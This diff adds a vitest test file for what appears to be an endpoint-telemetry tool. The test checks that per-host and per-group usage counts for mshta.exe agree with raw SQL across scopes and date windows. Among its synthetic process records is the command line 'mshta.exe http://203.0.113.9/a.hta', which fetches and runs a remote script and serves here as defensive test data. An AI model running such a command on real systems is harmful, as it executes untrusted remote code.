@@ -1,0 +1,96 @@
+import { beforeAll, expect, test } from 'vitest'
+import type { Scope } from '@/lib/pipeline/actor'
+import { pool } from '@/lib/store/pool'
+import { loadHostsOfUse } from '@/lib/store/screens/binary/hosts-of-use'
+import { type BinaryView, findBinary, usageIn } from '@/lib/store/screens/binary/view'
+import { rows, sql } from '@/lib/store/sql'
+import { withTestDatabase } from '@/lib/store/test-database'
+import { ingestExamples } from './ingest/example-use'
+import { recompute } from './recompute/recompute'
+
+const SCOPES: Scope[] = [{ kind: 'all' }, { kind: 'groups', groupIds: [2] }]
+const USERS = ['CORP\\ada', 'corp\\ADA', 'CORP\\ben', 'NT AUTHORITY\\SYSTEM', null]
+const PARENTS = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', null]
+const LINES = ['mshta.exe C:\\Apps\\form.hta', 'mshta.exe http://203.0.113.9/a.hta', null]
+let entryId: number
+
+withTestDatabase()
+beforeAll(async () => {
+  await ingestExamples(
+    pool(),
+    Array.from({ length: 90 }, (_, at) => ({
+      host: `ws-${1 + (at % 4)}`,
+      at: `2026-01-${String(5 + (at % 6)).padStart(2, '0')}T${String(6 + (at % 13)).padStart(2, '0')}:${String(at % 60).padStart(2, '0')}:00Z`,
+      image: 'C:\\Windows\\System32\\mshta.exe',
+      originalFileName: 'MSHTA.EXE',
+      commandLine: LINES[at % 3] ?? null,
+      parentImage: PARENTS[at % 7 === 0 ? 1 : at % 5 === 0 ? 2 : 0] ?? null,
+      user: USERS[at % 11 === 0 ? 4 : at % 4] ?? null,
+    })),
+  )
+  await pool().query("INSERT INTO host_group (id, name) VALUES (1, 'Tills'), (2, 'Offices')")
+  await pool().query(
+    "INSERT INTO host_group_member (host_id, group_id, valid_from) SELECT id, CASE WHEN name = 'ws-1' THEN 1 ELSE 2 END, '1970-01-01' FROM host WHERE name <> 'ws-4'",
+  )
+  await recompute(pool())
+  entryId = (await findBinary('mshta.exe'))?.id ?? 0
+})
+
+type Use = {
+  host: number
+  group: string | null
+  executions: string
+  pattern: string | null
+  parent: string | null
+  user: string | null
+}
+
+/** Usage in view row by row, with the account that each printing stands for. */
+async function usesIn(scope: Scope, view: BinaryView): Promise<Use[]> {
+  return await rows<Use>(
+    pool(),
+    sql`SELECT u.host_id AS host, g.name AS group, u.executions, s.pattern_id AS pattern, s.feature_ids[3] AS parent,
+          nullif(coalesce((SELECT min(o.id) FROM principal o JOIN principal p ON account_key(o.name, o.sid) = account_key(p.name, p.sid)
+            WHERE p.id = u.principal_id), u.principal_id), 0) AS "user"
+        FROM (${usageIn(scope, view)}) u JOIN signature s ON s.id = u.signature_id
+        LEFT JOIN host_group_member m ON m.host_id = u.host_id AND m.valid_to IS NULL LEFT JOIN host_group g ON g.id = m.group_id`,
+  )
+}
+
+function counted(uses: readonly Use[]) {
+  const hosts = new Map(uses.map(({ host, group }) => [host, group]))
+  const groups: Record<string, number> = {}
+  for (const group of hosts.values()) if (group !== null) groups[group] = (groups[group] ?? 0) + 1
+  return { hosts: hosts.size, groups }
+}
+
+const WINDOWS = [
+  { from: '2026-01-01', to: '2026-01-31' },
+  { from: '2026-01-09', to: '2026-01-10' },
+  { from: '2026-01-06', to: '2026-01-07' },
+  { from: '2026-01-20', to: '2026-01-21' },
+]
+const HOSTS = [
+  { host: null, group: null },
+  { host: 'ws-2', group: null },
+  { host: null, group: 'Offices' },
+]
+const CASES = SCOPES.flatMap((scope) =>
+  WINDOWS.flatMap((window) => HOSTS.map((hosts) => ({ scope, window, ...hosts }))),
+)
+
+test.each(CASES)(
+  'who used a binary is what its use says row by row, an account of several printings once: $window.from $host $group',
+  async ({ scope, ...rest }) => {
+    const view = { entryId, ...rest }
+    const uses = await usesIn(scope, view)
+    const { executions, hostsOf } = await loadHostsOfUse(scope, view)
+    const sums = new Map<number, number>()
+    for (const use of uses) sums.set(use.host, (sums.get(use.host) ?? 0) + Number(use.executions))
+    expect(executions).toEqual(sums)
+    for (const of of ['pattern', 'parent', 'user'] as const)
+      for (const id of new Set(uses.map((use) => use[of])))
+        expect(hostsOf(of, id)).toEqual(counted(uses.filter((use) => use[of] === id)))
+    expect(hostsOf('pattern', '1')).toEqual({ hosts: 0, groups: {} })
+  },
+)
